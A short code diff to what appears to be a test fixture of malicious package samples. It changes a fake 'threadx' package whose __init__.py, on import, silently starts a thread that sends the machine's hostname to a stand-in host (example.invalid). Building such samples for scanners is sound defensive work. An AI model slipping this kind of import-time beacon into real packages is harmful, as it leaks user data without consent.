@@ -594,7 +594,7 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             "threadx",
             "0.1",
             {
-                "threadx/__init__.py": "import platform, threading, urllib.request\n\n\ndef beacon():\n    urllib.request.urlopen('http://127.0.0.1:9/b?h=' + platform.node())\n\n\nthreading.Thread(target=beacon, daemon=True).start()\n",
+                "threadx/__init__.py": "import platform, threading, urllib.request\n\n\ndef beacon():\n    urllib.request.urlopen('http://example.invalid/b?h=' + platform.node())\n\n\nthreading.Thread(target=beacon, daemon=True).start()\n",
             },
         ),
     ),
